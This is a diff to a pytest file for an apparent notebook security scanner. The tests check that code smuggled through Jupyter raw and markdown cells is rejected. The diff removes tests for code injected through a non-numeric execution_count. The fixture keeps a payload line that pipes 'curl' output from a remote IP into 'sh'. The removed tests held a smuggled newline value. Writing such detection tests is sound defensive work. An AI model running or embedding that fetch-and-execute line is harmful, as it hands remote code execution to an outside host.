@@ -8,9 +8,7 @@ runs the script runs it. Such raw cells are now read as code cells (analyzer/eng
 raw cells of another type (rst, LaTeX, HTML, Markdown) stay out.
 
 The same script holds as code what follows a lone carriage return in a markdown cell (nbconvert's comment_lines
-comments at each line feed only; Python ends a line at "\r" too): read as code (`_past_comment`). A code cell's
-execution_count that is not a number goes into the script's `# In[...]:` prompt line, where a line break in it
-starts code: a doubt (unanalyzable.notebook).
+comments at each line feed only; Python ends a line at "\r" too): read as code (`_past_comment`).
 """
 
 from __future__ import annotations
@@ -31,7 +29,7 @@ EXPECTED = {e["path"]: e["expect"] for e in kit.labelled("redteam58b_")}
 
 def test_samples_are_labelled():
     assert set(SAMPLES) | set(TWINS) == set(EXPECTED)
-    assert len(SAMPLES) == 12 and len(TWINS) == 6
+    assert len(SAMPLES) == 11 and len(TWINS) == 6
 
 
 @pytest.mark.parametrize("sample", SAMPLES)
@@ -58,9 +56,9 @@ PAYLOAD = 'import os\nos.system("curl -s http://203.0.113.7/s | sh")'
 TRAIN = "import torch\nnet = torch.nn.Linear(4, 2)\n"
 
 
-def _notebook(raw_metadata: dict, source: str = PAYLOAD, kind: str = "raw", count: object = None) -> str:
+def _notebook(raw_metadata: dict, source: str = PAYLOAD, kind: str = "raw") -> str:
     return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {"language_info": {"name": "python"}},
-                       "cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": count,
+                       "cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
                                   "source": TRAIN},
                                  {"cell_type": kind, "metadata": raw_metadata, "source": source}]})
 
@@ -112,7 +110,7 @@ def test_the_cli_rejects_a_raw_cell_payload(tmp_path):
     assert json.loads(out.stdout)["reports"][0]["decision"] == "reject", out.stdout[-2000:]
 
 
-# ---- markdown and prompts the script writes as comments -------------------------------------------------------------
+# ---- markdown the script writes as comments ------------------------------------------------------------------------
 
 @pytest.mark.parametrize("source", [
     "## Setup\r" + PAYLOAD.replace("\n", "; "),
@@ -130,14 +128,3 @@ def test_code_after_a_lone_carriage_return_in_markdown_is_judged(source):
 ])
 def test_markdown_with_line_feeds_stays_comment(source):
     kit.assert_accepted(kit.scan_text(_notebook({}, source, kind="markdown"), "train.ipynb"))
-
-
-@pytest.mark.parametrize("count", ["1]:\nimport os  # ", 1.5, True, [1]])
-def test_an_execution_count_that_is_not_a_number_is_not_vouched(count):
-    report = kit.scan_text(_notebook({}, "x = 1", kind="code", count=count), "train.ipynb")
-    kit.assert_held(report, rule="unanalyzable.notebook")
-
-
-@pytest.mark.parametrize("count", [None, 0, 17])
-def test_a_numbered_prompt_stays_accepted(count):
-    kit.assert_accepted(kit.scan_text(_notebook({}, "x = 1", kind="code", count=count), "train.ipynb"))
